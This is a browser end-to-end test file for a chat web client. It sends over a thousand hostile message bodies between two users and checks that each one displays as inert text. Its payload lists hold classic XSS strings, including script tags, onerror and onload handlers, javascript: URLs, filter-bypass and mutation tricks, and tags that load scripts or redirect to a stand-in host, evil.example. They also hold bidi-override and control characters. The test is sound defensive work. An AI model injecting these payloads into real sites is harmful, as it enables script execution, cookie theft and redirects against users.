/**
 * Hostile text through the web client, in the real Chromium against a real relay and chain: over a thousand
 * bodies made of HTML, script tags, event-handler attributes, javascript: URLs, entities, bidi overrides and
 * control characters (a fixed list of classics and a seeded fast-check sample) go from one browser user to
 * another through the page's own composer, each its own message, and each shows as exactly that text on
 * both sides, with no element of its own, no dialog, no console error and no CSP violation.
 *
 * How control characters show: as themselves. The body node's textContent is the text the composer held,
 * C0 and C1 controls, bidi overrides and isolates included (the browser draws them, never interprets them;
 * an override ends with the body's own paragraph). The one change is the textarea's: a CR or CR LF typed
 * into it is a LF (HTML's newline normalisation), so that is what is sent and shown.
 */
import { expect } from "chai";
import fc from "fast-check";
import type { Page } from "playwright-core";
import { expectNoProblemsBesideDefaultRpc, openConversation, registerInBrowser, startChat, useWebStack } from "./app";
import type { WebStack } from "./stack";

const SEED = 0x5eed_7e57;
const GENERATED = 1_000;

/** The classics, each one message. */
const CLASSICS = [
  `<script>alert("xss")</script>`,
  `<img src=x onerror=alert(1)>`,
  `<svg onload=alert(1)><circle r=5 /></svg>`,
  `<a href="javascript:alert(1)">click me</a>`,
  `javascript:alert(document.cookie)`,
  `JaVaScRiPt:alert(1)//`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `"><script>alert(1)</script>`,
  `'><img src=x onerror=alert(1)>`,
  `</p></li></ol><script>alert(1)</script><ol><li><p>`,
  `<style>*{display:none!important}</style>`,
  `<body onload=alert(1)>`,
  `<input autofocus onfocus=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<!-- a comment --><b>bold</b><i>italic</i>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&amp; &#x3C; &#60; &nbsp; &copy; &#0; &#x202E; &NotAnEntity;`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{alert(1)}",
  `<div style="position:fixed;inset:0;background:red">overlay</div>`,
  `<form action="https://evil.example/"><input name=p><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<template><script>alert(1)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<select><option><img src=x onerror=alert(1)></option></select>`,
  `<textarea></textarea><script>alert(1)</script>`,
  `<dialog open>fake dialog</dialog>`,
  `<button popovertarget=x>p</button><div popover id=x>pop</div>`,
  `\u202Egnp.exe\u202C harmless.txt`,
  `\u2066isolated\u2069 \u2067right to left\u2069 \u2068first strong\u2069 \u202Aembed\u202C \u202Bembed\u202C \u202Doverride\u202C`,
  `abc\u200F\u200Edef \u061C arabic mark`,
  `line one\nline two\r\nline three\rline four`,
  `tab\there\vvertical\fform feed`,
  `\u0000nul \u0001soh \u0007bel \u0008bs \u001B[31mred\u001B[0m`,
  `\u007Fdel \u0080pad \u0085nel \u009Bcsi \u009Fapc`,
  `ls\u2028ps\u2029end`,
  `\uFEFFbom \u200Bzwsp \u200Czwnj \u200Dzwj \u2060wj`,
  `😀 👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301 Z̴̡̛͇a̷l̶g̴o̵`,
  `%3Cscript%3Ealert(1)%3C%2Fscript%3E`,
  `\\u003cscript\\u003e \\x3cscript\\x3e`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">`,
  `<a href="jav&#x09;ascript:alert(1)">tab in scheme</a>`,
];

/** Pieces the generator strings together. */
const FRAGMENTS = [
  "<script>",
  "</script>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<a href=javascript:alert(1)>",
  "</a>",
  "javascript:",
  "onclick=alert(1)",
  "onmouseover=\"alert(1)\"",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<div>",
  "</div>",
  "<p>",
  "</li>",
  "</ol>",
  "<!--",
  "-->",
  "&lt;",
  "&gt;",
  "&amp;",
  "&#60;",
  "&#x3c;",
  "&quot;",
  "&nbsp;",
  '"',
  "'",
  "`",
  "=",
  "<",
  ">",
  "/",
];
const C0 = Array.from({ length: 0x20 }, (_, i) => String.fromCharCode(i)).concat("\u007F");
const C1 = Array.from({ length: 0x20 }, (_, i) => String.fromCharCode(0x80 + i));
const BIDI = ["\u202A", "\u202B", "\u202C", "\u202D", "\u202E", "\u2066", "\u2067", "\u2068", "\u2069", "\u200E", "\u200F", "\u061C", "\u2028", "\u2029"];

const piece = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...FRAGMENTS) },
  { weight: 2, arbitrary: fc.constantFrom(...C0, ...C1) },
  { weight: 2, arbitrary: fc.constantFrom(...BIDI) },
  { weight: 3, arbitrary: fc.string({ unit: "grapheme", maxLength: 6 }) },
  { weight: 2, arbitrary: fc.string({ unit: "binary-ascii", maxLength: 6 }) },
);
const body = fc
  .array(piece, { minLength: 1, maxLength: 10 })
  .map((parts) => parts.join(""))
  // a blank text is not sent (the composer ignores it), so it would not be a message to compare
  .filter((text) => text.trim() !== "");

/** What the composer holds after typing `text`: the textarea turns CR and CR LF into LF. */
const composed = (text: string) => text.replace(/\r\n?/g, "\n");

/** Elements the app itself puts in a timeline item; anything else came from a message. */
const APP_TAGS = new Set(["LI", "DIV", "SPAN", "TIME", "P", "PRE", "BUTTON"]);
const APP_ATTRIBUTES = new Set(["class", "datetime", "role", "type"]);

interface TimelineScan {
  bodies: string[];
  /** elements inside the timeline that the app does not make */
  foreign: string[];
  /** body nodes with anything but one text node inside */
  nonText: number;
  /** elements anywhere in the document that a message could have smuggled in */
  smuggled: string[];
  scripts: number;
}

async function scanTimeline(page: Page, title: string): Promise<TimelineScan> {
  return page.evaluate(
    ({ label, tags, attributes }) => {
      const timeline = document.querySelector(`ol.timeline[aria-label="${CSS.escape(label)}"]`);
      if (!timeline) throw new Error(`no timeline ${label}`);
      const foreign: string[] = [];
      for (const node of Array.from(timeline.querySelectorAll("*"))) {
        if (!tags.includes(node.tagName)) foreign.push(node.tagName);
        for (const attr of Array.from(node.attributes)) if (!attributes.includes(attr.name) && !(node.tagName === "LI" && attr.name === "role")) foreign.push(`${node.tagName}[${attr.name}]`);
      }
      const bodyNodes = Array.from(timeline.querySelectorAll("li.message > p.body"));
      const nonText = bodyNodes.filter((p) => p.childNodes.length > 1 || (p.firstChild !== null && p.firstChild.nodeType !== Node.TEXT_NODE)).length;
      const smuggled = Array.from(document.querySelectorAll("img, iframe, object, embed, svg, math, form, meta[http-equiv], base, template, noscript, select, dialog[open], [popover], a[href]:not([href='#screen']), [onload], [onerror], [onclick], [onmouseover], [onfocus], [ontoggle], style")).map((node) => node.outerHTML.slice(0, 80));
      return { bodies: bodyNodes.map((p) => p.textContent ?? ""), foreign, nonText, smuggled, scripts: document.scripts.length };
    },
    { label: `Messages with ${title}`, tags: [...APP_TAGS], attributes: [...APP_ATTRIBUTES] },
  );
}

/** Waits until the timeline holds `count` messages of `whose`, none of them still sending. */
async function waitForMessages(page: Page, title: string, whose: "mine" | "theirs", count: number, timeout: number): Promise<void> {
  const timeline = page.getByRole("list", { name: `Messages with ${title}` });
  await timeline.locator(`li.message.${whose}`).nth(count - 1).waitFor({ state: "attached", timeout });
  await timeline.locator(".state-sending").first().waitFor({ state: "detached", timeout });
}

describe("web client: hostile text shows as text", function () {
  this.timeout(1_500_000);
  const web = useWebStack();
  const users = web.users;
  let stack: WebStack;
  before(() => {
    stack = web.stack();
  });

  it(`${CLASSICS.length} classics and ${GENERATED} generated bodies arrive as exactly their text on both sides`, async () => {
    const generated = fc.sample(body, { seed: SEED, numRuns: GENERATED });
    const sent = [...CLASSICS, ...generated];
    expect(sent.every((text) => text.trim() !== "")).to.equal(true);

    const ann = await registerInBrowser(stack, "ann");
    const ben = await registerInBrowser(stack, "ben");
    users.push(ann, ben);
    const dialogs: string[] = [];
    for (const user of [ann, ben]) {
      user.page.on("dialog", (dialog) => {
        dialogs.push(`${user.username}: ${dialog.type()} ${dialog.message()}`);
        void dialog.dismiss().catch(() => undefined);
      });
    }
    const scriptsBefore = { ann: await ann.page.evaluate(() => document.scripts.length), ben: await ben.page.evaluate(() => document.scripts.length) };

    await startChat(ann.page, "ben");
    await openConversation(ben.page, "ann");

    // The app's own elements that the smuggling check also matches (its noscript note, the composer's form).
    const baseline = { ann: (await scanTimeline(ann.page, "ben")).smuggled, ben: (await scanTimeline(ben.page, "ann")).smuggled };

    // Typed into the composer as a person's input (the text at once, as a paste), each sent with Enter.
    const composer = ann.page.getByRole("textbox", { name: "Message to ben" });
    await composer.focus();
    const started = Date.now();
    for (const text of sent) {
      await ann.page.keyboard.insertText(text);
      await ann.page.keyboard.press("Enter");
    }
    expect(await composer.inputValue(), "the composer empties after each send").to.equal("");
    const typedMs = Date.now() - started;

    const expected = sent.map(composed);
    // Each text is its own MLS message and relay request: on a loaded 2-core machine that is a few a second.
    await waitForMessages(ann.page, "ben", "mine", sent.length, 900_000);
    await waitForMessages(ben.page, "ann", "theirs", sent.length, 300_000);
    console.log(`      ${sent.length} messages typed in ${typedMs} ms, on both sides after ${Date.now() - started} ms`);

    for (const [user, title] of [[ann, "ben"], [ben, "ann"]] as const) {
      const scan = await scanTimeline(user.page, title);
      expect(scan.bodies.length, `${user.username}'s message count`).to.equal(expected.length);
      const wrong = scan.bodies.flatMap((shown, i) => (shown === expected[i] ? [] : [{ i, sent: JSON.stringify(expected[i]), shown: JSON.stringify(shown) }]));
      expect(wrong.slice(0, 5), `${user.username}: ${wrong.length} bodies differ from the sent text`).to.deep.equal([]);
      expect(scan.foreign, `${user.username}: elements or attributes from messages in the timeline`).to.deep.equal([]);
      expect(scan.nonText, `${user.username}: body nodes holding more than text`).to.equal(0);
      expect(scan.smuggled, `${user.username}: smuggled elements in the page`).to.deep.equal(baseline[user.username as "ann" | "ben"]);
      expect(scan.scripts, `${user.username}: script elements`).to.equal(scriptsBefore[user.username as "ann" | "ben"]);
    }
    expect(dialogs, "dialogs opened").to.deep.equal([]);
    expect(await ann.page.evaluate(() => location.pathname)).to.equal("/");
    expectNoProblemsBesideDefaultRpc(ann.watched, "ann's page");
    expectNoProblemsBesideDefaultRpc(ben.watched, "ben's page");
  });
});
